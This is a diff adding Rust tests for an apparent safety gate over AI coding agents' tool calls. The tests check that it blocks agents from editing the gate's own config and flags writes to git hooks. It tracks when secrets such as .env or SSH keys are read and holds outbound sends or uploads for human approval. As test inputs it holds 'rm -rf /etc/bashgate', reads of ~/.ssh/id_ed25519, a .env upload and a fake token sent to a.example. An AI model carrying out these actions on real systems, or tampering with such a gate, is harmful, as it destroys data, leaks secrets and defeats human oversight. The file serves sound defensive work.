@@ -1,0 +1,311 @@
+//! Agents' other tools, in the words of each agent: what reads, writes and sends is judged as a command that does.
+
+use std::os::unix::fs::symlink;
+
+use bashgate_tests::{Output, Site};
+use serde_json::{Value, json};
+
+/// An event before a tool is used, in the form of an agent.
+fn event(agent: &str, tool: &str, input: &Value, cwd: &std::path::Path) -> Value {
+    match agent {
+        "copilot" => {
+            json!({"sessionId": "s", "timestamp": 1_700_000_000_000_u64, "cwd": cwd, "toolName": tool, "toolArgs": input})
+        }
+        "neutral" | "opencode" => {
+            json!({"event": "before_tool_use", "tool_name": tool, "tool_input": input, "cwd": cwd})
+        }
+        "codex" => {
+            json!({"hook_event_name": "PreToolUse", "turn_id": "t", "session_id": "s", "cwd": cwd, "tool_name": tool, "tool_input": input})
+        }
+        "cursor" => {
+            json!({"hook_event_name": "preToolUse", "generation_id": "g", "cwd": cwd, "tool_name": tool, "tool_input": input})
+        }
+        "gemini" => {
+            json!({"hook_event_name": "BeforeTool", "timestamp": "2026-01-01T00:00:00Z", "session_id": "s", "cwd": cwd,
+            "tool_name": tool, "tool_input": input})
+        }
+        _ => {
+            json!({"hook_event_name": "PreToolUse", "session_id": "s", "cwd": cwd, "tool_name": tool, "tool_input": input})
+        }
+    }
+}
+
+fn send(site: &Site, agent: &str, event: &Value) -> Output {
+    let mut hook = site.hook_command(&site.hook_toml());
+    Output::of(hook.args(["--agent", agent]), event.to_string().as_bytes())
+}
+
+fn ask(site: &Site, agent: &str, tool: &str, input: &Value) -> Output {
+    send(site, agent, &event(agent, tool, input, &site.work()))
+}
+
+/// What nobody answers is over soon.
+const SOON: &str = "[approval]\nexpires_s = 20\n";
+
+/// Each agent's tools that read, search and write a file, with the field that names it.
+const FILE_TOOLS: &[(&str, &str, &str, &str)] = &[
+    ("claude", "Read", "Write", "file_path"),
+    ("claude", "NotebookRead", "NotebookEdit", "notebook_path"),
+    ("claude", "Read", "MultiEdit", "file_path"),
+    ("gemini", "read_file", "write_file", "file_path"),
+    ("gemini", "read_file", "replace", "absolute_path"),
+    ("copilot", "view", "create", "path"),
+    ("copilot", "view", "edit", "path"),
+    ("opencode", "read", "write", "filePath"),
+    ("neutral", "Read", "Edit", "file_path"),
+    ("codex", "view_image", "apply_patch", "path"),
+];
+
+fn write_input(tool: &str, field: &str, path: &str) -> Value {
+    if tool == "apply_patch" {
+        return json!({"command": format!("*** Begin Patch\n*** Update File: {path}\n@@\n-a\n+b\n*** End Patch")});
+    }
+    json!({field: path, "content": "x", "new_string": "x"})
+}
+
+#[test]
+fn ordinary_files_need_no_host() {
+    let site = Site::new(SOON);
+    std::fs::create_dir(site.work().join("src")).unwrap();
+    std::fs::write(site.work().join("src/a.rs"), "x").unwrap();
+    for (agent, read, write, field) in FILE_TOOLS {
+        for path in ["src/a.rs", site.work().join("src/new.rs").to_str().unwrap(), "new/folder/x.md"] {
+            ask(&site, agent, read, &json!({*field: path})).expect(0);
+            ask(&site, agent, write, &write_input(write, field, path)).expect(0);
+        }
+    }
+    for (agent, search) in [("claude", "Grep"), ("gemini", "grep_search"), ("copilot", "rg"), ("opencode", "grep")] {
+        ask(&site, agent, search, &json!({"pattern": "x", "path": "src"})).expect(0);
+        ask(&site, agent, search, &json!({"pattern": "x"})).expect(0);
+    }
+    for (agent, tool) in
+        [("claude", "TodoWrite"), ("codex", "update_plan"), ("gemini", "glob"), ("copilot", "report_intent")]
+    {
+        ask(&site, agent, tool, &json!({"x": 1})).expect(0);
+    }
+}
+
+#[test]
+fn files_that_act_later_are_as_for_the_shell() {
+    let site = Site::new(SOON);
+    let _host = site.serve();
+    std::fs::create_dir_all(site.work().join(".git/hooks")).unwrap();
+    std::fs::create_dir(site.work().join("sub")).unwrap();
+    symlink(site.path().join("hook.toml"), site.work().join("innocent.toml")).unwrap();
+    symlink(".git/hooks", site.work().join("links")).unwrap();
+    let hook = site.hook_toml().display().to_string();
+    for (agent, _, write, field) in FILE_TOOLS {
+        for path in [".claude/settings.json", hook.as_str(), "~/.codex/config.toml", "innocent.toml"] {
+            let denied = ask(&site, agent, write, &write_input(write, field, path)).expect(2);
+            assert!(denied.stderr.contains("touches the gate"), "{agent} {write} {path}: {denied:?}");
+        }
+        for path in [".git/hooks/pre-commit", "links/post-merge", "sub/.envrc"] {
+            let flagged = ask(&site, agent, write, &write_input(write, field, path)).expect(2);
+            assert!(flagged.stderr.contains("which runs later"), "{agent} {write} {path}: {flagged:?}");
+        }
+        // What steers builds and agents is on record in a clean workspace.
+        let before = site.audit().len();
+        ask(&site, agent, write, &write_input(write, field, "CLAUDE.md")).expect(0);
+        assert_eq!(site.audit().len(), before + 1, "{agent} {write}");
+    }
+    site.raise("default", "corruption");
+    let id = site.held_by(
+        &site.hook_toml(),
+        &event("claude", "Write", &write_input("Write", "file_path", ".git/hooks/x"), &site.work()),
+    );
+    site.cli(["deny", &id]).expect(0);
+    let flagged = ask(&site, "gemini", "write_file", &write_input("write_file", "file_path", "CLAUDE.md"));
+    assert_eq!(
+        flagged.code,
+        Some(0),
+        "one step stricter is a look by the rules, which say nothing against it: {flagged:?}"
+    );
+}
+
+#[test]
+fn secrets_that_tools_meet_are_remembered() {
+    let site = Site::new(SOON);
+    let _host = site.serve();
+    std::fs::write(site.work().join(".env"), "X=1").unwrap();
+    std::fs::create_dir(site.work().join("src")).unwrap();
+    symlink("../.env", site.work().join("src/notes")).unwrap();
+    let clear = || site.cli(["taint", "clear", "default"]).expect(0);
+    for (agent, read, _, field) in FILE_TOOLS {
+        for path in [".env", "src/notes", "~/.ssh/id_ed25519"] {
+            assert_eq!(site.taint("default"), "clean");
+            ask(&site, agent, read, &json!({*field: path})).expect(0);
+            assert_eq!(site.taint("default"), "secret", "{agent} {read} {path}");
+            clear();
+        }
+    }
+    for (agent, search) in
+        [("claude", "Grep"), ("gemini", "search_file_content"), ("copilot", "grep"), ("opencode", "grep")]
+    {
+        ask(&site, agent, search, &json!({"pattern": "x"})).expect(0);
+        assert_eq!(site.taint("default"), "secret", "{agent} {search}");
+        clear();
+    }
+    ask(&site, "gemini", "read_many_files", &json!({"paths": ["src/a", ".env"]})).expect(0);
+    assert_eq!(site.taint("default"), "secret");
+    clear();
+    // A tool whose input says nothing may read whatever lies there.
+    ask(&site, "claude", "Read", &json!({"document": 7})).expect(0);
+    assert_eq!(site.taint("default"), "secret");
+    clear();
+    for (agent, name) in [("claude", "UserPromptSubmit"), ("codex", "UserPromptSubmit"), ("gemini", "BeforeAgent")] {
+        let prompt = |words: &str| json!({"hook_event_name": name, "session_id": "s", "turn_id": "t", "cwd": site.work(), "prompt": words});
+        send(&site, agent, &prompt("what does src/main.rs do? ask me@example.org")).expect(0);
+        assert_eq!(site.taint("default"), "clean", "{agent}");
+        send(&site, agent, &prompt("see @src/main.rs and @.env, please")).expect(0);
+        assert_eq!(site.taint("default"), "secret", "{agent}");
+        clear();
+    }
+}
+
+#[test]
+fn what_sends_obeys_the_table() {
+    let site = Site::new(
+        "[services.tracker]\nsecret_data = false\ndangerous_writes = false\n[services.notes]\npublic_source = false\nsecret_data = false\npublic_sink = false\ndangerous_writes = false\n[services.bank]\ndangerous_writes = \"forbidden\"\n",
+    );
+    let _host = site.serve();
+    let fetches = [
+        ("claude", "WebFetch", json!({"url": "https://a.example/x?q=1", "prompt": "sum up"})),
+        ("gemini", "web_fetch", json!({"prompt": "read https://a.example/x and say what it says"})),
+        ("opencode", "webfetch", json!({"url": "https://a.example/x", "format": "text"})),
+        ("copilot", "web_fetch", json!({"url": "https://a.example/x"})),
+    ];
+    for (agent, tool, input) in &fetches {
+        ask(&site, agent, tool, input).expect(0);
+        assert_eq!(site.taint("default"), "corruption", "{agent} {tool}");
+        site.cli(["taint", "clear", "default"]).expect(0);
+    }
+    let denied = ask(&site, "claude", "mcp__bank__balance", &json!({})).expect(2);
+    assert!(denied.stderr.contains("forbids the service `bank`"), "{denied:?}");
+    assert_eq!(site.taint("default"), "clean");
+    for label in ["corruption", "secret"] {
+        site.raise("default", label);
+    }
+    // Both: whoever sends is asked about, and what is asked is what is shown.
+    for (agent, tool, input) in &fetches {
+        let id = site.held_by(&site.hook_toml(), &event(agent, tool, input, &site.work()));
+        let card = site.cli(["show", &id]).expect(0).stdout;
+        assert!(card.contains(tool) && card.contains("a.example"), "{card}");
+        site.cli(["deny", &id]).expect(0);
+    }
+    let call = json!({"title": "the words that are sent", "to": "everybody"});
+    let id = site.held_by(&site.hook_toml(), &event("claude", "mcp__tracker__create", &call, &site.work()));
+    let card = site.cli(["show", &id]).expect(0).stdout;
+    assert!(card.contains("mcp__tracker__create") && card.contains("the words that are sent"), "{card}");
+    site.cli(["approve", &id]).expect(0);
+    // A service that shows nobody what it is sent may be used whatever was seen.
+    ask(&site, "claude", "mcp__notes__write", &call).expect(0);
+    ask(&site, "claude", "WebSearch", &json!({"query": "weather"})).expect(0);
+    // Resources of a server are that server's.
+    site.cli(["taint", "clear", "default"]).expect(0);
+    ask(&site, "claude", "ReadMcpResourceTool", &json!({"server": "notes", "uri": "x://y"})).expect(0);
+    assert_eq!(site.taint("default"), "clean");
+    ask(&site, "claude", "ReadMcpResourceTool", &json!({"server": "other", "uri": "x://y"})).expect(0);
+    assert_eq!(site.taint("default"), "both");
+    // A file that is taken along, under one taint.
+    site.cli(["taint", "clear", "default"]).expect(0);
+    site.raise("default", "corruption");
+    let upload = json!({"file": ".env", "channel": "general"});
+    let id = site.held_by(&site.hook_toml(), &event("claude", "mcp__tracker__upload", &upload, &site.work()));
+    assert!(site.cli(["show", &id]).expect(0).stdout.contains("reads a secret"), "{id}");
+    site.cli(["audit", "verify"]).expect(0);
+    let shown = site.audit();
+    assert!(shown.iter().any(|record| record["detail"]["tool"] == "mcp__tracker__create"
+        && record["detail"]["type"] == "security:tool_event"));
+}
+
+#[test]
+fn a_credential_in_what_is_sent_is_asked_about() {
+    let site = Site::new(SOON);
+    let _host = site.serve();
+    let key = format!("ghp_{}", "a1B2c3D4e5F6a1B2c3D4e5F6a1B2c3D4e5F6");
+    for (tool, input) in [
+        ("WebFetch", json!({"url": format!("https://a.example/?k={key}"), "prompt": "x"})),
+        ("mcp__x__y", json!({"body": format!("token {key}")})),
+    ] {
+        let id = site.held_by(&site.hook_toml(), &event("claude", tool, &input, &site.work()));
+        let card = site.cli(["show", &id]).expect(0).stdout;
+        assert!(card.contains("credential") && !card.contains(&key), "{card}");
+        site.cli(["deny", &id]).expect(0);
+    }
+}
+
+#[test]
+fn what_is_not_understood_is_denied_and_says_what_to_do() {
+    let site = Site::new(SOON);
+    let _host = site.serve();
+    for (agent, tool, input, want) in [
+        ("neutral", "Bash", json!({"cmd": "ls"}), "has no `command`"),
+        ("neutral", "Bash", json!({"script": "ls"}), "has no `command`"),
+        ("neutral", "Bash", json!({"command": ["ls"]}), "has no `command`"),
+        ("claude", "Bash", json!({"command": null}), "has no `command`"),
+        ("gemini", "run_shell_command", json!({"cmd": "ls"}), "has no `command`"),
+        ("copilot", "bash", json!([]), "has no `tool_input`"),
+        ("claude", "Write", json!({"content": "x"}), "has no path"),
+        ("codex", "apply_patch", json!({"command": "*** Begin Patch\n*** End Patch"}), "has no patch"),
+        ("claude", "WebFetch", json!({"prompt": 7}), "has no address"),
+        ("claude", "ReadMcpResourceTool", json!({"uri": "x"}), "has no `server`"),
+        ("claude", "NewTool", json!({"command": 7}), "has no `command`"),
+    ] {
+        let denied = ask(&site, agent, tool, &input).expect(2);
+        assert!(denied.stderr.contains(want), "{agent} {tool} {input}: {denied:?}");
+    }
+    for (agent, event, want) in [
+        ("claude", json!({"hook_event_name": "BeforeLunch"}), "take the hook off that event"),
+        ("gemini", json!({"hook_event_name": "PreToolUse"}), "is not known to this version"),
+        ("neutral", json!({"event": "before_tool_use"}), "no agent's event has this shape"),
+        ("opencode", json!({"event": "after", "tool_name": "x", "tool_input": {}}), "is not known"),
+        ("cursor", json!({"hook_event_name": "beforeShellExecution", "generation_id": "g"}), "has no `tool_input`"),
+    ] {
+        let denied = send(&site, agent, &event).expect(2);
+        assert!(denied.stderr.contains(want), "{agent} {event}: {denied:?}");
+    }
+    // A field that stands twice, however deep.
+    let twice = r#"{"hook_event_name":"PreToolUse","tool_name":"mcp__x__y","tool_input":{"a":[{"b":1,"b":2}]}}"#;
+    let denied = Output::of(&mut site.hook_command(&site.hook_toml()), twice.as_bytes()).expect(2);
+    assert!(denied.stderr.contains("duplicate field `b`"), "{denied:?}");
+    // A tool that nobody knows counts as a service that nobody knows.
+    ask(&site, "claude", "TimeMachine", &json!({"year": 1999})).expect(0);
+    assert_eq!(site.taint("default"), "both");
+}
+
+#[test]
+fn each_agent_is_answered_in_its_own_words() {
+    let site = Site::new(SOON);
+    let _host = site.serve();
+    let command = json!({"command": "rm -rf /etc/bashgate"});
+    for (agent, tool, pointer, want) in [
+        ("claude", "Bash", "/hookSpecificOutput/permissionDecision", "deny"),
+        ("codex", "Bash", "/hookSpecificOutput/permissionDecision", "deny"),
+        ("gemini", "run_shell_command", "/decision", "deny"),
+        ("copilot", "bash", "/permissionDecision", "deny"),
+        ("cursor", "Shell", "/permission", "deny"),
+    ] {
+        let denied = ask(&site, agent, tool, &command).expect(2);
+        let said: Value = serde_json::from_str(&denied.stdout).unwrap_or_else(|_| panic!("{agent}: {denied:?}"));
+        assert_eq!(said.pointer(pointer).and_then(Value::as_str), Some(want), "{agent}: {said}");
+        assert!(denied.stdout.contains("touches the gate") && denied.stderr.contains("touches the gate"), "{denied:?}");
+        let fine = ask(&site, agent, tool, &json!({"command": "ls"})).expect(0);
+        assert_eq!(fine.stdout, "", "{agent}: silence leaves the agent's own rules in force");
+    }
+    assert_eq!(
+        ask(&site, "opencode", "bash", &json!({"command": "ls"})).expect(0).stdout.trim(),
+        r#"{"allowed":true}"#
+    );
+    let whole = json!({"hook_event_name": "beforeShellExecution", "generation_id": "g", "conversation_id": "c", "cwd": site.work(),
+        "command": "rm -rf /etc/bashgate"});
+    // Detected by what it has, without `--agent`.
+    for event in [
+        whole,
+        event("gemini", "run_shell_command", &command, &site.work()),
+        event("copilot", "bash", &command, &site.work()),
+        event("codex", "Bash", &command, &site.work()),
+    ] {
+        let output = Output::of(&mut site.hook_command(&site.hook_toml()), event.to_string().as_bytes()).expect(2);
+        assert!(output.stderr.contains("touches the gate"), "{event}: {output:?}");
+    }
+}
